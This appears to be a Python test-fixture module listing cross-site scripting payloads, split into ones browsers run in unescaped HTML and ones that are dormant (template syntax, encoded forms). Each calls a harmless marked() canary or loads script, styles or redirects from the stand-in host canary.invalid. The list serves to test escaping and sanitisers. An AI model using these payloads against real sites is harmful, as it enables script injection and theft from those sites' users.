"""Texts that become script, style or requests where a page does not escape them.

Each calls `marked()`, or asks a host under `.invalid`, when a browser takes it for code.
"""

from __future__ import annotations

# What a browser of today takes for code in some place of an HTML page.
LIVE = [
    "<script>marked()</script>",
    "<ScRiPt/x>marked()</sCrIpT >",
    "</title><script>marked()</script>",
    "</textarea></style></script><script>marked()</script>",
    "\"><script>marked()</script>",
    "'><script>marked()</script>",
    "--><script>marked()</script><!--",
    "]]><script>marked()</script>",
    "<script src=//canary.invalid/x.js></script>",
    "<img src=x: onerror=marked()>",
    "\"><img src=x: onerror=marked()>",
    "<img/src=x:/onerror=marked()//",
    "<svg/onload=marked()>",
    "<svg><script>marked()</script></svg>",
    "<body onload=marked()>",
    "<details open ontoggle=marked()>",
    "<input autofocus onfocus=marked()>",
    "<video><source onerror=marked() src=x:></video>",
    "<math><mtext></p><svg><style><img src=x: onerror=marked()>",
    "<noscript><p title=\"</noscript><img src=x: onerror=marked()>\">",
    "\" autofocus onfocus=marked() x=\"",
    "' autofocus onfocus=marked() x='",
    "\" onmouseover=marked() style=\"position:fixed;inset:0\" x=\"",
    "<iframe srcdoc=\"<script>parent.marked()</script>\"></iframe>",
    "<iframe src=javascript:parent.marked()></iframe>",
    "<object data=//canary.invalid/x></object>",
    "<link rel=stylesheet href=//canary.invalid/x.css>",
    "<style>@import'//canary.invalid/x.css';</style>",
    "</style><style>body{background:url(//canary.invalid/x.png)}</style>",
    "\" style=\"background:url(//canary.invalid/x.png)\" x=\"",
    "<meta http-equiv=refresh content=0;url=//canary.invalid/>",
    "<base href=//canary.invalid/>",
    "<form action=javascript:marked()><button>go</button></form>",
    "<a href=javascript:marked()>go</a>",
    "<a href=\"data:text/html,<script>opener.marked()</script>\">go</a>",
    "javascript:marked()",
    "JaVa\tScRiPt:marked()",
    "\u202e<img src=x: onerror=marked()>\u202c",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+marked()//'>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=marked() )//%0D%0A%0d%0a//"
    "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=marked()//>\\x3e",
]  # fmt: skip

# Harmless in a page as it stands: code only to a template, to JSON in a script, after one more
# decoding, or to browsers of the past.
DORMANT = [
    "{{ 7 * 7 }}{{ self.__init__.__globals__ }}",
    "{% include 'x' %}${marked()}#{marked()}<%= marked() %>",
    "&lt;script&gt;marked()&lt;/script&gt;",
    "&#60;img src=x: onerror=marked()&#62;",
    "%3Cscript%3Emarked()%3C/script%3E",
    "\\u003cscript\\u003emarked()\\u003c/script\\u003e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}marked()",
    "<\N{LATIN SMALL LETTER LONG S}cript>marked()</\N{LATIN SMALL LETTER LONG S}cript>",
    "+ADw-script+AD4-marked()+ADw-/script+AD4-",
    "<scr\0ipt>marked()</scr\0ipt>",
    "data:text/html,<b onmouseover=opener.marked()>x</b>",
    "vbscript:marked()",
]

PAYLOADS = [*LIVE, *DORMANT]
